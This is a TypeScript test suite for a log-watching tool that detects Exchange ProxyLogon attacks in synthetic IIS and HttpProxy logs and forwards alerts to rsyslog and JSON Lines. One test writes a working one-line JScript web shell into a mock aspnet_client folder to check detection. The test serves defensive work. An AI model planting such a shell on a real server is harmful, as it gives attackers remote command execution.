// The watcher end to end, in this process, on a growing SYNTHETIC triage mirror: lines appended
// to IIS and HttpProxy logs (attack and benign, some written in halves) reach a real rsyslogd
// and the JSON Lines file exactly as `exhunt scan` finds them in the final files; rotation (a new
// daily file, a rename), truncation, a file replaced under its name; a restart resumes with no
// duplicate; the receiver down for a while; a web shell planted, touched and changed; a rule
// added while running.
import assert from 'node:assert/strict';
import { appendFileSync, copyFileSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Finding } from '../../src/core/finding.js';
import { REPO, exhunt } from '../helpers/cli.js';
import { gate } from '../alerts/helpers/tools.js';
import { keyOf, readJsonl, receivedKeys, rsyslogSuite, scanFindings, sleep, startWatcher, syslogTo, waitCount, where } from './helpers/harness.js';
import { ASPNET_CLIENT, HTTPPROXY_ECP_DIR, IIS_DIR, SyntheticLogs, append, makeMirror, write } from './helpers/logs.js';

const tools = gate(['rsyslogd', 'openssl'], 'rsyslog, rsyslog-gnutls, openssl');
const IIS = `${IIS_DIR}/u_ex210303.log`;
const HP = `${HTTPPROXY_ECP_DIR}/HttpProxy_2021030304-1.LOG`;

/** Rules an attack line of each kind raises (checked against a scan in the first test). */
const IIS_RULES = ['Exchange.ProxyLogon.IisHafniumUserAgent', 'Exchange.ProxyLogon.IisSsrfStaticResource'];
const HP_RULES = ['Exchange.ProxyLogon.SsrfHttpProxy'];

function lineCount(text: string): number {
  return text.split('\n').length - 1;
}

function sorted(list: Iterable<string>): string[] {
  return [...list].sort();
}

/** `path:line rule` of the findings of attack lines written at these places. */
function expectedAt(lines: readonly { path: string; line: number; kind: 'iis' | 'httpproxy' }[]): string[] {
  return sorted(lines.flatMap((l) => (l.kind === 'iis' ? IIS_RULES : HP_RULES).map((r) => `${l.path}:${l.line} ${r}`)));
}

void describe('exhunt watch: growing logs to rsyslog and JSON Lines', { skip: tools.skip }, () => {
  const suite = rsyslogSuite('exhunt-watch-', tools.failure);

  void test('appended attack and benign lines, some in halves: exactly the alerts a scan of the final files gives, once each', async (t) => {
    const root = join(suite.dir, 'a', 'EXCH01');
    const jsonl = join(suite.dir, 'a', 'findings.jsonl');
    makeMirror(root);
    const g = new SyntheticLogs('growing');
    // Existing content, with attacks in it: --from-now (the default) must not alert on them.
    let iis = g.iisHeader();
    let hp = g.httpProxyHeader();
    for (let i = 0; i < 10; i++) {
      iis += i === 4 ? g.iisAttack(900) : g.iisBenign();
      hp += i === 6 ? g.httpProxyAttack(901) : g.httpProxyBenign();
    }
    write(root, IIS, iis);
    write(root, HP, hp);
    const before = new Map([[IIS, lineCount(iis)], [HP, lineCount(hp)]]);
    const seenBefore = suite.rs.raw().length;

    const w = await startWatcher(root, join(suite.dir, 'a', 'state', 'exhunt.db'), { channels: [syslogTo(suite.rs.tcpPort, 'growing')], jsonl });
    t.after(() => w.stop());
    let n = 0;
    for (let round = 0; round < 6; round++) {
      let a = '';
      let b = '';
      for (let i = 0; i < 25; i++) {
        a += i % 6 === 0 ? g.iisAttack(n++) : g.iisBenign();
        b += i % 8 === 0 ? g.httpProxyAttack(n++) : g.httpProxyBenign();
      }
      append(root, IIS, a);
      append(root, HP, b);
      await sleep(30);
    }
    // A line written in two halves: nothing for it until its line feed arrives.
    const half = g.iisAttack(n);
    append(root, IIS, half.slice(0, 40));
    const halfLine = lineCount(iis) + 6 * 25 + 1;
    await sleep(500);
    assert.equal(w.findings.filter((f) => f.source.line === halfLine && f.source.path === IIS).length, 0, 'no finding from a half-written line');
    append(root, IIS, half.slice(40));

    const scan = (await scanFindings(root)).filter((f) => f.source.line !== null && f.source.line > (before.get(f.source.path) ?? 0));
    assert.ok(scan.length > 40, `the reference has findings (${scan.length})`);
    assert.deepEqual(sorted(new Set(scan.map((f) => f.ruleId))), sorted([...IIS_RULES, ...HP_RULES]));
    assert.ok(scan.some((f) => f.source.line === halfLine), 'the half-written line is an attack');

    await waitCount(() => readJsonl(jsonl), scan.length, 15_000, 'JSON lines');
    const received = await waitCount(() => receivedKeys(suite.rs.raw().slice(seenBefore)), scan.length, 15_000, 'messages at rsyslog');
    await sleep(300);
    const expectedKeys = sorted(scan.map(keyOf));
    assert.deepEqual(sorted(w.findings.map(keyOf)), expectedKeys, 'the watcher found what the scan finds, with the same idempotency keys');
    assert.deepEqual(sorted(readJsonl(jsonl).map(keyOf)), expectedKeys, 'JSON Lines: each finding once');
    assert.deepEqual(sorted(receivedKeys(suite.rs.raw().slice(seenBefore))), expectedKeys, 'rsyslog: each alert once');
    assert.equal(received.length, expectedKeys.length);
    const bySeverity = new Map(scan.map((f) => [keyOf(f), f.severity]));
    for (const f of w.findings) assert.equal(f.severity, bySeverity.get(keyOf(f)), where(f));
    // In order: the alerts of one file arrive in line order.
    const linesOf = (path: string): number[] =>
      suite.rs
        .raw()
        .slice(seenBefore)
        .filter((l) => l.includes(`filePath=${path.replace(/=/g, '\\=')}`))
        .map((l) => Number(/cn1=(\d+)/.exec(l)?.[1]));
    for (const path of [IIS, HP]) {
      const lines = linesOf(path);
      assert.deepEqual(lines, [...lines].sort((x, y) => x - y), `${path} in line order`);
    }
  });

  void test('receiver down for a while, then back: every alert arrives, in queue order, once', async (t) => {
    const root = join(suite.dir, 'down', 'EXCH01');
    makeMirror(root);
    const g = new SyntheticLogs('down');
    write(root, IIS, g.iisHeader());
    const w = await startWatcher(root, join(suite.dir, 'down', 'exhunt.db'), { channels: [syslogTo(suite.rs.tcpPort, 'down')] });
    t.after(() => w.stop());
    await suite.rs.stop();
    await sleep(200);
    const seenBefore = suite.rs.raw().length;
    for (let i = 0; i < 30; i++) append(root, IIS, i % 3 === 0 ? g.iisAttack(i) : g.iisBenign());
    await waitCount(() => w.findings, 20, 10_000, 'findings');
    await sleep(700);
    const queued = w.watcher.outbox.status().find((s) => s.channel === 'down');
    assert.equal(queued?.pending, 20, 'all queued while the receiver is down');
    assert.match(queued?.lastError ?? '', /ECONNREFUSED/);
    assert.equal(suite.rs.raw().length, seenBefore, 'nothing arrived');
    await suite.rs.start();
    await waitCount(() => receivedKeys(suite.rs.raw().slice(seenBefore)), 20, 15_000, 'messages after the receiver came back');
    await sleep(300);
    const order = w.watcher.outbox.db.prepare("SELECT key FROM alerts_outbox WHERE channel = 'down' ORDER BY seq").all() as { key: string }[];
    assert.deepEqual(receivedKeys(suite.rs.raw().slice(seenBefore)), order.map((r) => r.key), 'in queue order, each once');
    assert.equal(w.watcher.outbox.status().find((s) => s.channel === 'down')?.pending, 0);
  });
});

void describe('exhunt watch: rotation, truncation, replacement, restart', () => {
  let dir = '';
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'exhunt-watch-files-'));
  });
  after(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  void test('a new daily file, a rename rotation, a truncated file and a file replaced under its name', async (t) => {
    const root = join(dir, 'rot', 'EXCH01');
    const jsonl = join(dir, 'rot', 'findings.jsonl');
    makeMirror(root);
    const g = new SyntheticLogs('rotation');
    let iis = g.iisHeader() + g.iisBenign();
    let hp = g.httpProxyHeader() + g.httpProxyBenign();
    write(root, IIS, iis);
    write(root, HP, hp);
    const w = await startWatcher(root, join(dir, 'rot', 'exhunt.db'), { jsonl, startMode: 'start' });
    t.after(() => w.stop());
    const expected: { path: string; line: number; kind: 'iis' | 'httpproxy' }[] = [];
    const settle = async (): Promise<void> => {
      await waitCount(() => w.findings, expectedAt(expected).length, 10_000, 'findings');
      await sleep(250);
    };

    // 1. Rotation by name (IIS daily, HttpProxy hourly): a new file appears beside the old one.
    const IIS2 = `${IIS_DIR}/u_ex210304.log`;
    const next = g.iisHeader() + g.iisBenign() + g.iisAttack(1);
    write(root, IIS2, next);
    expected.push({ path: IIS2, line: lineCount(next), kind: 'iis' });
    await settle();

    // 2. Rotation by rename: the log is renamed, its writer appends once more to the old file,
    //    and a new log starts under the old name.
    const a2 = g.httpProxyAttack(2);
    hp += a2;
    append(root, HP, a2);
    expected.push({ path: HP, line: lineCount(hp), kind: 'httpproxy' });
    await settle();
    const HP_OLD = `${HP}.1`;
    renameSync(join(root, ...HP.split('/')), join(root, ...HP_OLD.split('/')));
    const tail = g.httpProxyAttack(3);
    append(root, HP_OLD, tail);
    expected.push({ path: HP_OLD, line: lineCount(hp) + 1, kind: 'httpproxy' });
    const fresh = g.httpProxyHeader() + g.httpProxyAttack(4);
    write(root, HP, fresh);
    expected.push({ path: HP, line: lineCount(fresh), kind: 'httpproxy' });
    await settle();
    assert.ok(w.events.some((e) => e.type === 'source' && e.what === 'moved' && e.path === HP_OLD), 'the renamed log went on from its checkpoint');

    // 3. Truncation: the file is emptied and written again from its start.
    truncateSync(join(root, ...IIS.split('/')));
    await sleep(300);
    iis = g.iisHeader() + g.iisAttack(5);
    append(root, IIS, iis);
    expected.push({ path: IIS, line: lineCount(iis), kind: 'iis' });
    await settle();
    assert.ok(w.events.some((e) => e.type === 'source' && e.what === 'truncated' && e.path === IIS));

    // 4. Replaced under the same name (a new file renamed over it): read from its start.
    const replacement = g.iisHeader() + g.iisBenign() + g.iisBenign() + g.iisAttack(6);
    write(root, 'C/tmp-replacement.txt', replacement);
    renameSync(join(root, 'C', 'tmp-replacement.txt'), join(root, ...IIS2.split('/')));
    expected.push({ path: IIS2, line: lineCount(replacement), kind: 'iis' });
    await settle();
    assert.ok(w.events.some((e) => e.type === 'source' && e.what === 'replaced' && e.path === IIS2));

    await waitCount(() => readJsonl(jsonl), expectedAt(expected).length, 10_000, 'JSON lines');
    await sleep(300);
    assert.deepEqual(sorted(w.findings.map(where)), expectedAt(expected));
    assert.deepEqual(sorted(readJsonl(jsonl).map(where)), expectedAt(expected), 'JSON Lines: exactly these, once each');
  });

  void test('a restart resumes where it stopped: lines written while stopped are read, nothing twice', async () => {
    const root = join(dir, 'restart', 'EXCH01');
    const jsonl = join(dir, 'restart', 'findings.jsonl');
    const state = join(dir, 'restart', 'exhunt.db');
    makeMirror(root);
    const g = new SyntheticLogs('restart');
    write(root, IIS, g.iisHeader());
    write(root, HP, g.httpProxyHeader());
    const feed = (from: number, count: number): void => {
      let a = '';
      let b = '';
      for (let i = from; i < from + count; i++) {
        a += i % 4 === 0 ? g.iisAttack(i) : g.iisBenign();
        b += i % 5 === 0 ? g.httpProxyAttack(i) : g.httpProxyBenign();
      }
      append(root, IIS, a);
      append(root, HP, b);
    };
    let w = await startWatcher(root, state, { jsonl });
    feed(0, 40);
    const scan1 = await scanFindings(root);
    await waitCount(() => readJsonl(jsonl), scan1.length, 10_000, 'JSON lines');
    await w.stop();

    // Written while stopped: more lines, and a rotated IIS file.
    feed(40, 40);
    write(root, `${IIS_DIR}/u_ex210304.log`, g.iisHeader() + g.iisAttack(999));
    // The first-run choice does not apply any more: --from-start now reads nothing old again.
    w = await startWatcher(root, state, { jsonl, startMode: 'start' });
    const scan2 = await scanFindings(root);
    await waitCount(() => readJsonl(jsonl), scan2.length, 10_000, 'JSON lines');
    await sleep(500);
    await w.stop();
    assert.deepEqual(sorted(readJsonl(jsonl).map(keyOf)), sorted(scan2.map(keyOf)), 'every finding of both runs exactly once');
    assert.equal(w.findings.length, scan2.length - scan1.length, 'the second run produced only the new ones');
  });

  void test('web folder: a planted shell alerts, touching it does not, changing it does', async (t) => {
    const root = join(dir, 'web', 'EXCH01');
    makeMirror(root);
    write(root, `${ASPNET_CLIENT}/readme.txt`, 'synthetic placeholder\r\n');
    const w = await startWatcher(root, join(dir, 'web', 'exhunt.db'));
    t.after(() => w.stop());
    const shell = `${ASPNET_CLIENT}/errorEE.aspx`;
    const abs = join(root, ...shell.split('/'));
    write(root, shell, '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\r\n');
    const first = await waitCount(() => w.findings, 1, 10_000, 'findings');
    const scanned = (await scanFindings(root)).filter((f) => f.source.path === shell);
    await sleep(400);
    assert.deepEqual(sorted(w.findings.map(keyOf)), sorted(scanned.map(keyOf)), 'what a scan finds in the file');
    assert.ok(first.every((f: Finding) => f.source.kind === 'file'));
    const count = w.findings.length;
    utimesSync(abs, new Date(), new Date(Date.now() + 5000));
    await sleep(800);
    assert.equal(w.findings.length, count, 'same content, new time: nothing new');
    writeFileSync(abs, '<%@ Page Language="Jscript"%><%eval(Request.Item["q"],"unsafe");%>\r\n');
    utimesSync(abs, new Date(), new Date(Date.now() + 10_000));
    await waitCount(() => w.findings, count + 1, 10_000, 'findings after the change');
  });

  void test('event log exports dropped in a folder: each read once, complete', async (t) => {
    const exports = join(dir, 'exports', 'dropped');
    mkdirSync(exports, { recursive: true });
    const w = await startWatcher(exports, join(dir, 'exports', 'exhunt.db'));
    t.after(() => w.stop());
    const fixtures = join(REPO, 'test', 'fixtures', 'evtx');
    // A copy in progress: the first half, a pause shorter than the settle time, the rest.
    const xml = readFileSync(join(fixtures, 'wevtutil.xml'));
    writeFileSync(join(exports, 'Security-export.xml'), xml.subarray(0, xml.length >> 1));
    await sleep(100);
    appendFileSync(join(exports, 'Security-export.xml'), xml.subarray(xml.length >> 1));
    copyFileSync(join(fixtures, 'nested.jsonl'), join(exports, 'sysmon.jsonl'));
    const scan = await scanFindings(exports);
    assert.equal(scan.length, 4, 'the reference: three findings in the XML export, one in the JSON Lines');
    await waitCount(() => w.findings, scan.length, 10_000, 'findings');
    await sleep(700);
    assert.deepEqual(sorted(w.findings.map(keyOf)), sorted(scan.map(keyOf)), 'each export read once, whole');
  });

  void test('an indicator imported into the state store while running applies to the next lines', async (t) => {
    const root = join(dir, 'intel', 'EXCH01');
    const state = join(dir, 'intel', 'exhunt.db');
    makeMirror(root);
    const g = new SyntheticLogs('intel');
    write(root, IIS, g.iisHeader());
    const w = await startWatcher(root, state, { content: { intel: true, store: state }, detectors: undefined, reloadMs: 100 });
    t.after(() => w.stop());
    const list = join(dir, 'intel', 'ips.txt');
    writeFileSync(list, '198.51.100.77\n');
    const imported = exhunt(['intel', 'import', list, '--store', state, '--type', 'ipv4', '--source', 'watch-test']);
    assert.equal(imported.code, 0, imported.stderr);
    await waitCount(() => w.events.filter((e) => e.type === 'reloaded'), 1, 10_000, 'reloads');
    const row = g.iisBenign().split(' ');
    row[8] = '198.51.100.77';
    append(root, IIS, row.join(' '));
    const found = await waitCount(() => w.findings.filter((f) => f.ruleId.startsWith('intel.')), 1, 10_000, 'indicator findings');
    assert.equal(found[0]?.clientIp, '198.51.100.77');
    assert.equal(found[0]?.source.line, 6);
  });

  void test('a rule added while running applies to the next lines, without a restart', async (t) => {
    const root = join(dir, 'reload', 'EXCH01');
    const pack = join(dir, 'reload', 'pack');
    mkdirSync(join(pack, 'rules', 'Test'), { recursive: true });
    makeMirror(root);
    const g = new SyntheticLogs('reload');
    write(root, IIS, g.iisHeader());
    const w = await startWatcher(root, join(dir, 'reload', 'exhunt.db'), { content: { intel: false, rules: [pack] }, detectors: undefined, reloadMs: 100 });
    t.after(() => w.stop());
    writeFileSync(
      join(pack, 'rules', 'Test', 'OwaMarker.yaml'),
      [
        'id: Test.OwaMarker',
        'title: A request for the synthetic marker page',
        'description: Test rule added while the watcher runs.',
        'severity: high',
        'outcome: attempted',
        'stage: initial-access',
        'cves: []',
        'attack: []',
        'references:',
        '  - name: exhunt watch tests (synthetic)',
        'kinds: [iis]',
        'where:',
        '  field: cs-uri-stem',
        '  equals: /owa/auth/synthetic-marker.aspx',
        'evidence: [cs-uri-stem]',
        '',
      ].join('\n'),
    );
    await waitCount(() => w.events.filter((e) => e.type === 'reloaded'), 1, 10_000, 'reloads');
    append(root, IIS, g.iisBenign().replace(/ \/[^ ]+ /, ' /owa/auth/synthetic-marker.aspx '));
    const found = await waitCount(() => w.findings.filter((f) => f.ruleId === 'Test.OwaMarker'), 1, 10_000, 'findings of the new rule');
    assert.equal(found[0]?.source.line, 6);
  });
});
